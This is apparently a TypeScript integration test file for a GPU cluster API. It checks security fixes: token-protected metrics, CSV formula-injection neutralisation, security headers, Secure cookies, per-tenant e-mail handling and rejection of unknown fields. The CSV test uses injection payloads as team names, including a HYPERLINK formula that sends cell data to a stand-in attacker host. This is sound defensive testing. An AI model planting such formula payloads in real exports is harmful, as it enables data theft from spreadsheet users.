import type { INestApplication } from '@nestjs/common';
import { NestFactory } from '@nestjs/core';
import request from 'supertest';
import { createApiKey, createTeam, createUser } from '@gantry/db';
import { HTTP_STATUS } from './common/errors';
import { parseConfig } from './config/config';
import { HttpModule } from './app.module';
import { configureHttp } from './http';
import { BOOTSTRAP_ADMIN_KEY, eventually, makeTenant, startSystem, type TestSystem } from './test-support/system';

const ADMIN = `Bearer ${BOOTSTRAP_ADMIN_KEY}`;
const METRICS_TOKEN = 'edges-metrics-token-0123456789abcdef';
const TENANT_SCOPES = ['jobs:read', 'jobs:write', 'endpoints:read', 'endpoints:write', 'quotas:read', 'quotas:write', 'cluster:read'];

/**
 * Findings of the security assessment (second batch): /metrics behind a token, CSV formula
 * injection, security headers and Secure cookies, e-mail addresses unique per tenant (no
 * cross-tenant 409), and unknown fields refused everywhere. Each test fails on the code
 * before its fix.
 */
describe('security edges: /metrics, CSV cells, headers and cookies, per-tenant e-mail, unknown fields', () => {
  let sys: TestSystem;
  /** Extra API processes on the same database and queues, with other settings. */
  const extraApis: INestApplication[] = [];

  beforeAll(async () => {
    sys = await startSystem({ GANTRY_METRICS_TOKEN: METRICS_TOKEN, GANTRY_RATE_LIMIT_PER_MINUTE: '100000' });
    await eventually(async () => (await sys.db.gpu.count()) >= 256);
  }, 60_000);
  afterAll(async () => {
    await Promise.allSettled(extraApis.map((a) => a.close()));
    await sys?.close();
  });

  /** A second API process on the system's database and queues, with `env` on top. */
  async function startApi(env: Record<string, string>) {
    const config = parseConfig({
      ...process.env,
      DATABASE_URL: sys.config.databaseUrl,
      GANTRY_QUEUE_PREFIX: sys.config.queuePrefix,
      GANTRY_BOOTSTRAP_ADMIN_KEY: BOOTSTRAP_ADMIN_KEY,
      GANTRY_LOG_LEVEL: 'warn',
      GANTRY_RATE_LIMIT_PER_MINUTE: '100000',
      ...env,
    });
    const api = await NestFactory.create(HttpModule.forRoot(config), { bodyParser: false, logger: ['error'], forceCloseConnections: true });
    extraApis.push(api);
    configureHttp(api);
    await api.init();
    return () => request(api.getHttpServer());
  }

  const expectEnvelope = (res: { status: number; body: { error?: { code?: string; message?: string } } }, wantStatus: number) => {
    expect(res.status).toBe(wantStatus);
    expect(typeof res.body.error?.code).toBe('string');
    expect(HTTP_STATUS[res.body.error!.code as keyof typeof HTTP_STATUS]).toBe(wantStatus);
    expect(res.body.error!.message).toEqual(expect.stringMatching(/\S/));
  };
  const errorText = (res: { body: { error?: { message?: string; details?: unknown } } }) =>
    `${res.body.error?.message ?? ''} ${JSON.stringify(res.body.error?.details ?? [])}`;

  describe('6. /metrics needs the metrics token or a platform-admin key; tenant and team names stay out of its labels', () => {
    let t: Awaited<ReturnType<typeof makeTenant>>;
    let tenantAdmin: string;

    beforeAll(async () => {
      t = await makeTenant(sys.db, 'edge-metrics-acme', { scopes: TENANT_SCOPES, quota: { guaranteed: 0, limit: 8 } });
      tenantAdmin = `Bearer ${(await createApiKey(sys.db, { name: 'edge tenant admin', role: 'tenant_admin', tenantId: t.tenant.id, scopes: TENANT_SCOPES })).key}`;
      // A pending job of this team (a queue-depth row), kept pending: its tenant may use no GPU.
      expect((await sys.http().put(`/v1/tenants/${t.tenant.id}/quota`).set('Authorization', ADMIN).send({ gpuTotal: 0 })).status).toBe(200);
      await sys.db.job.create({
        data: {
          tenantId: t.tenant.id,
          teamId: t.team.id,
          name: 'edge-pending',
          kind: 'batch',
          replicas: 1,
          resources: { gpus: 1, cpuMilli: 4000, memoryMiB: 16384 },
        },
      });
    });

    const queueDepthLine = (text: string) => text.split('\n').find((l) => l.startsWith('gantry_queue_depth{') && l.includes(t.team.id));

    it.each([
      ['no Authorization header', undefined],
      ['a wrong metrics token', 'Bearer edges-metrics-token-0123456789abcdeX'],
      ['an unknown API key', 'Bearer gk_nobody_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'],
      ['a malformed header', 'Basic Zm9vOmJhcg=='],
    ])('answers 401 in the error envelope with %s', async (_n, auth) => {
      const req = sys.http().get('/metrics');
      const res = auth ? await req.set('Authorization', auth) : await req;
      expectEnvelope(res, 401);
      expect(res.text).not.toContain('gantry_queue_depth');
    });

    it('refuses a tenant key, even a tenant admin’s (403, envelope)', async () => {
      for (const auth of [t.auth, tenantAdmin]) {
        const res = await sys.http().get('/metrics').set('Authorization', auth);
        expectEnvelope(res, 403);
        expect(res.text).not.toContain(t.tenant.slug);
      }
    });

    it('scrapes with Authorization: Bearer <GANTRY_METRICS_TOKEN>: opaque tenant_id and team_id labels, no tenant or team names', async () => {
      const res = await sys.http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/plain/);
      const line = await eventually(async () => queueDepthLine((await sys.http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`)).text));
      expect(line).toBe(`gantry_queue_depth{tenant_id="${t.tenant.id}",team_id="${t.team.id}"} 1`);
      expect(res.text).not.toContain('edge-metrics-acme');
      expect(res.text).not.toMatch(/\b(tenant|team)="/);
    });

    it('scrapes with a platform-admin key', async () => {
      const res = await sys.http().get('/metrics').set('Authorization', ADMIN);
      expect(res.status).toBe(200);
      expect(res.text).toContain('# TYPE gantry_queue_depth gauge');
    });

    it('without GANTRY_METRICS_TOKEN only platform-admin keys scrape', async () => {
      const http = await startApi({});
      expectEnvelope(await http().get('/metrics'), 401);
      expectEnvelope(await http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`), 401);
      expect((await http().get('/metrics').set('Authorization', ADMIN)).status).toBe(200);
    });

    it('adds tenant and team labels only with GANTRY_METRICS_TENANT_LABELS=true', async () => {
      const http = await startApi({ GANTRY_METRICS_TOKEN: METRICS_TOKEN, GANTRY_METRICS_TENANT_LABELS: 'true' });
      const res = await http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`);
      expect(res.status).toBe(200);
      expect(queueDepthLine(res.text)).toBe(
        `gantry_queue_depth{tenant_id="${t.tenant.id}",team_id="${t.team.id}",tenant="${t.tenant.slug}",team="${t.team.slug}"} 1`,
      );
    });

    it('refuses a metrics token shorter than 16 characters at boot', () => {
      expect(() => parseConfig({ GANTRY_METRICS_TOKEN: 'short' })).toThrow(/GANTRY_METRICS_TOKEN/);
    });
  });

  describe('8. CSV exports neutralise cells that a spreadsheet would run as a formula', () => {
    const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open report")';
    const NAMES = [HYPERLINK, '+SUM(1,2)', '-2+3', '@cmd', 'Plain, "quoted" team'];
    let t: Awaited<ReturnType<typeof makeTenant>>;
    const teamIds = new Map<string, string>();

    beforeAll(async () => {
      t = await makeTenant(sys.db, 'edge-csv');
      for (const [i, name] of NAMES.entries()) {
        // The API takes such names; the factory then gives the team a quota, so that it is in the report.
        const made = await sys
          .http()
          .post(`/v1/tenants/${t.tenant.id}/teams`)
          .set('Authorization', ADMIN)
          .send({ name, slug: `csv-${i}` });
        expect(made.status).toBe(201);
        await createTeam(sys.db, t.tenant.id, { name, slug: `csv-${i}`, quota: { guaranteed: 1, limit: 2 } });
        teamIds.set(made.body.id, name);
      }
    });

    /** RFC 4180: fields separated by commas, quoted fields with "" for a quote, lines by \n. */
    const parseCsv = (text: string): string[][] => {
      const rows: string[][] = [];
      let row: string[] = [];
      let cell = '';
      let quoted = false;
      for (let i = 0; i < text.length; i++) {
        const c = text[i]!;
        if (quoted) {
          if (c === '"' && text[i + 1] === '"') {
            cell += '"';
            i++;
          } else if (c === '"') quoted = false;
          else cell += c;
        } else if (c === '"') quoted = true;
        else if (c === ',') {
          row.push(cell);
          cell = '';
        } else if (c === '\n') {
          row.push(cell);
          rows.push(row);
          row = [];
          cell = '';
        } else cell += c;
      }
      if (cell || row.length) {
        row.push(cell);
        rows.push(row);
      }
      return rows;
    };

    it('GET /v1/utilization?format=csv: a team named =HYPERLINK(...) comes out as text (leading quote, RFC 4180 quoting)', async () => {
      const res = await sys.http().get('/v1/utilization?groupBy=team&step=1d&format=csv').set('Authorization', ADMIN);
      expect(res.status).toBe(200);
      expect(res.text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Open report"")",`);
      const rows = parseCsv(res.text);
      const labels = new Map(rows.filter((r) => teamIds.has(r[0]!)).map((r) => [r[0]!, r[1]!]));
      expect(labels.size).toBe(NAMES.length);
      for (const [id, name] of teamIds) expect(labels.get(id)).toBe(name === 'Plain, "quoted" team' ? name : `'${name}`);
      // No text cell anywhere starts a formula; numbers stay numbers.
      for (const r of rows.slice(1)) {
        for (const cell of r) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
        expect(r.slice(3).every((c) => c === '' || /^-?\d+(\.\d+)?(e[+-]?\d+)?$/.test(c))).toBe(true);
      }
    });
  });

  describe('10. security headers on every API answer; Secure cookies and HSTS behind https', () => {
    const JSON_CSP = "default-src 'none'; frame-ancestors 'none'";
    const expectCommonHeaders = (res: { headers: Record<string, string> }) => {
      expect(res.headers['x-frame-options']).toBe('DENY');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['referrer-policy']).toBe('no-referrer');
    };

    it.each([
      ['GET /healthz', () => sys.http().get('/healthz'), 200],
      ['GET /v1/me without a key (401)', () => sys.http().get('/v1/me'), 401],
      ['GET /v1/me', () => sys.http().get('/v1/me').set('Authorization', ADMIN), 200],
      ['an unknown route (404)', () => sys.http().get('/v1/nothing-here').set('Authorization', ADMIN), 404],
      [
        'a body that is not JSON (400)',
        () => sys.http().post('/v1/jobs').set('Authorization', ADMIN).set('content-type', 'application/json').send('{nope'),
        400,
      ],
      ['GET /openapi.json', () => sys.http().get('/openapi.json'), 200],
      ['GET /metrics', () => sys.http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`), 200],
    ])('%s: CSP default-src none, frame-ancestors none, X-Frame-Options, nosniff, Referrer-Policy; no HSTS over http', async (_n, send, status) => {
      const res = await send();
      expect(res.status).toBe(status);
      expect(res.headers['content-security-policy']).toBe(JSON_CSP);
      expectCommonHeaders(res);
      expect(res.headers['strict-transport-security']).toBeUndefined();
    });

    it.each(['/docs', '/docs/'])('%s has a policy that lets Swagger UI load its own scripts and styles, and nothing from elsewhere', async (path) => {
      const page = await sys.http().get(path);
      expect(page.status).toBe(200);
      expect(page.headers['content-type']).toMatch(/text\/html/);
      const csp = page.headers['content-security-policy']!;
      expectCommonHeaders(page);
      const directives = new Map(
        csp
          .split(';')
          .map((d: string) => d.trim().split(/\s+/))
          .map(([k, ...v]: string[]) => [k!, v]),
      );
      expect(directives.get('default-src')).toEqual(["'none'"]);
      expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
      expect(directives.get('script-src')).toEqual(["'self'"]); // no inline or eval'd script allowed
      expect(directives.get('style-src')).toContain("'self'");
      expect(directives.get('img-src')).toContain("'self'");
      expect(directives.get('connect-src')).toContain("'self'"); // "Try it out" calls the API
      // Every script in the page is a same-origin file (script-src 'self' would block inline code).
      const scripts = [...page.text.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
      expect(scripts.length).toBeGreaterThan(0);
      for (const [, attrs, body] of scripts) {
        expect(attrs).toMatch(/\bsrc="/);
        expect(body!.trim()).toBe('');
      }
      // Every script, stylesheet and icon it loads is same-origin, served, and covered by the policy ('self').
      const assets = [...page.text.matchAll(/<(?:script|link)\b[^>]*\b(?:src|href)="([^"]+)"/g)].map((m) => m[1]!);
      expect(assets.length).toBeGreaterThanOrEqual(4);
      for (const a of assets) {
        expect(a).not.toMatch(/^([a-z]+:)?\/\//i);
        const url = new URL(a, `http://gantry.test${path}`).pathname;
        const res = await sys.http().get(url);
        expect([url, res.status]).toEqual([url, 200]);
        if (url.endsWith('.js')) expect(res.headers['content-type']).toMatch(/javascript/);
        if (url.endsWith('.css')) expect(res.headers['content-type']).toMatch(/text\/css/);
        expect(res.headers['x-content-type-options']).toBe('nosniff');
      }
    });

    describe('behind https (GANTRY_PUBLIC_URL=https://...)', () => {
      const PASSWORD = 'quartz-lagoon-83-herons';
      let t: Awaited<ReturnType<typeof makeTenant>>;
      beforeAll(async () => {
        t = await makeTenant(sys.db, 'edge-cookies');
        await createUser(sys.db, { email: 'cookie@edge.example', name: 'Cookie', role: 'tenant_admin', tenantId: t.tenant.id, password: PASSWORD });
      });
      const sessionCookies = (res: { headers: Record<string, unknown> }) => res.headers['set-cookie'] as string[];

      it('sets Secure on the session and CSRF cookies (sign-in and sign-out) and sends HSTS', async () => {
        const http = await startApi({ GANTRY_PUBLIC_URL: 'https://gantry.example.com' });
        const login = await http().post('/v1/auth/login').send({ email: 'cookie@edge.example', password: PASSWORD });
        expect(login.status).toBe(200);
        const cookies = sessionCookies(login);
        expect(cookies).toHaveLength(2);
        for (const c of cookies) expect(c.split('; ')).toContain('Secure');
        expect(login.headers['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
        const cookie = cookies.map((c) => c.split(';')[0]).join('; ');
        const out = await http().post('/v1/auth/logout').set('Cookie', cookie).set('X-CSRF-Token', login.body.csrfToken);
        expect(out.status).toBe(204);
        for (const c of sessionCookies(out)) expect(c.split('; ')).toContain('Secure');
        expect((await http().get('/healthz')).headers['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
      });

      it('keeps cookies without Secure over plain http (the default, for local development)', async () => {
        const login = await sys.http().post('/v1/auth/login').send({ email: 'cookie@edge.example', password: PASSWORD });
        expect(login.status).toBe(200);
        for (const c of sessionCookies(login)) expect(c.split('; ')).not.toContain('Secure');
      });

      it('refuses a GANTRY_PUBLIC_URL that is not an http(s) URL at boot', () => {
        expect(() => parseConfig({ GANTRY_PUBLIC_URL: 'gantry.example.com' })).toThrow(/GANTRY_PUBLIC_URL/);
      });
    });
  });

  describe('14. an e-mail address is unique per tenant: creating a user never tells about other tenants’ users', () => {
    const EMAIL = 'shared@edge.example';
    const PW_A = 'copper-willow-27-stoats';
    const PW_B = 'indigo-canyon-45-larks';
    let a: Awaited<ReturnType<typeof makeTenant>>;
    let b: Awaited<ReturnType<typeof makeTenant>>;
    let aAdmin: string;
    let bAdmin: string;

    beforeAll(async () => {
      a = await makeTenant(sys.db, 'edge-users-a');
      b = await makeTenant(sys.db, 'edge-users-b');
      aAdmin = `Bearer ${(await createApiKey(sys.db, { name: 'a admin', role: 'tenant_admin', tenantId: a.tenant.id, scopes: TENANT_SCOPES })).key}`;
      bAdmin = `Bearer ${(await createApiKey(sys.db, { name: 'b admin', role: 'tenant_admin', tenantId: b.tenant.id, scopes: TENANT_SCOPES })).key}`;
      const made = await sys
        .http()
        .post('/v1/users')
        .set('Authorization', aAdmin)
        .send({ email: EMAIL, name: 'Shared A', password: PW_A, role: 'member', teamId: a.team.id });
      expect(made.status).toBe(201);
    });

    const login = (body: object) => sys.http().post('/v1/auth/login').send(body);

    it('tenant B creates a user with tenant A’s user’s e-mail (201); each signs in with its own password into its own tenant', async () => {
      const res = await sys
        .http()
        .post('/v1/users')
        .set('Authorization', bAdmin)
        .send({ email: 'Shared@edge.example', name: 'Shared B', password: PW_B, role: 'member', teamId: b.team.id });
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ email: EMAIL, tenantId: b.tenant.id, teamId: b.team.id });
      expect(JSON.stringify(res.body)).not.toContain(a.tenant.id);
      const inA = await login({ email: EMAIL, password: PW_A });
      expect(inA.status).toBe(200);
      expect(inA.body.user).toMatchObject({ name: 'Shared A', tenantId: a.tenant.id, teamId: a.team.id });
      const inB = await login({ email: EMAIL, password: PW_B });
      expect(inB.status).toBe(200);
      expect(inB.body.user).toMatchObject({ name: 'Shared B', tenantId: b.tenant.id, teamId: b.team.id });
      const cookie = (inB.headers['set-cookie'] as unknown as string[]).map((c) => c.split(';')[0]).join('; ');
      const me = await sys.http().get('/v1/me').set('Cookie', cookie);
      expect(me.body).toMatchObject({ kind: 'session', tenantId: b.tenant.id });
      const wrong = await login({ email: EMAIL, password: 'not-either-password-9' });
      expectEnvelope(wrong, 401);
      expect(wrong.body.error.message).toBe('invalid email or password');
    });

    it('the same e-mail twice in one tenant: 409 naming the field', async () => {
      const res = await sys
        .http()
        .post('/v1/users')
        .set('Authorization', aAdmin)
        .send({ email: EMAIL, name: 'Again', password: 'russet-fjord-63-voles', role: 'member', teamId: a.team.id });
      expectEnvelope(res, 409);
      expect(res.body.error.details).toEqual([{ field: 'email', problem: expect.stringMatching(/already/) }]);
      expect(await sys.db.user.count({ where: { email: EMAIL, tenantId: a.tenant.id } })).toBe(1);
    });

    it('one e-mail and one password in two tenants: 400 asking for the tenant; `tenant` (slug) picks the account', async () => {
      const c = await makeTenant(sys.db, 'edge-users-c');
      const d = await makeTenant(sys.db, 'edge-users-d');
      const same = 'sienna-plateau-52-ibis';
      for (const x of [c, d])
        await createUser(sys.db, { email: 'twice@edge.example', name: `Twice ${x.tenant.slug}`, role: 'tenant_admin', tenantId: x.tenant.id, password: same });
      const both = await login({ email: 'twice@edge.example', password: same });
      expectEnvelope(both, 400);
      expect(both.body.error.details.map((x: { field: string }) => x.field)).toEqual(['tenant']);
      expect(both.headers['set-cookie']).toBeUndefined();
      expect(errorText(both)).not.toMatch(/edge-users-[cd]/);
      const inD = await login({ email: 'twice@edge.example', password: same, tenant: d.tenant.slug });
      expect(inD.status).toBe(200);
      expect(inD.body.user.tenantId).toBe(d.tenant.id);
      // A tenant without that account, or one that does not exist: the usual 401.
      for (const tenant of [a.tenant.slug, 'no-such-tenant']) {
        const res = await login({ email: 'twice@edge.example', password: same, tenant });
        expectEnvelope(res, 401);
        expect(res.body.error.message).toBe('invalid email or password');
      }
      // The tenant also narrows an e-mail that exists once.
      expect((await login({ email: EMAIL, password: PW_B, tenant: b.tenant.slug })).status).toBe(200);
      expect((await login({ email: EMAIL, password: PW_B, tenant: a.tenant.slug })).status).toBe(401);
    });
  });

  describe('15. unknown fields are refused in every body and query (400 naming the field)', () => {
    let t: Awaited<ReturnType<typeof makeTenant>>;
    beforeAll(async () => {
      t = await makeTenant(sys.db, 'edge-strict');
    });

    it('POST /v1/teams/:id/schedules with an unknown field: 400 naming it, nothing stored', async () => {
      const res = await sys
        .http()
        .post(`/v1/teams/${t.team.id}/schedules`)
        .set('Authorization', t.auth)
        .send({ action: 'suspend', cron: '0 18 * * 1-5', timeZone: 'Europe/Berlin', jobld: 'typo-of-jobId' });
      expectEnvelope(res, 400);
      expect(errorText(res)).toContain('jobld');
      expect(await sys.db.suspendSchedule.count({ where: { teamId: t.team.id } })).toBe(0);
      const ok = await sys
        .http()
        .post(`/v1/teams/${t.team.id}/schedules`)
        .set('Authorization', t.auth)
        .send({ action: 'suspend', cron: '0 18 * * 1-5', timeZone: 'Europe/Berlin' });
      expect(ok.status).toBe(201);
    });

    it.each([
      ['GET /v1/jobs', '/v1/jobs?teamid=x', 'teamid'],
      ['GET /v1/users', '/v1/users?limit=5&offset=10', 'offset'],
      ['GET /v1/utilization', '/v1/utilization?groupBy=team&team=x', 'team'],
    ])('%s with an unknown query parameter: 400 naming it', async (_n, url, field) => {
      const res = await sys.http().get(url).set('Authorization', ADMIN);
      expectEnvelope(res, 400);
      expect(errorText(res)).toContain(field);
    });

    it('an action route that takes no body refuses one with fields (POST /v1/jobs/:id/cancel {"force": true}), takes none or {}', async () => {
      const job = await sys
        .http()
        .post('/v1/jobs')
        .set('Authorization', t.auth)
        .send({ teamId: t.team.id, name: 'edge-strict', kind: 'batch', resources: { gpus: 1 }, simulation: { durationSeconds: 900 } });
      expect(job.status).toBe(201);
      const res = await sys.http().post(`/v1/jobs/${job.body.id}/cancel`).set('Authorization', t.auth).send({ force: true });
      expectEnvelope(res, 400);
      expect(errorText(res)).toContain('force');
      expect((await sys.db.job.findUniqueOrThrow({ where: { id: job.body.id } })).state).not.toBe('cancelled');
      expect((await sys.http().post(`/v1/jobs/${job.body.id}/cancel`).set('Authorization', t.auth).send({})).status).toBe(200);
      expect((await sys.http().post(`/v1/jobs/${job.body.id}/cancel`).set('Authorization', t.auth)).status).toBeLessThan(500);
    });
  });
});
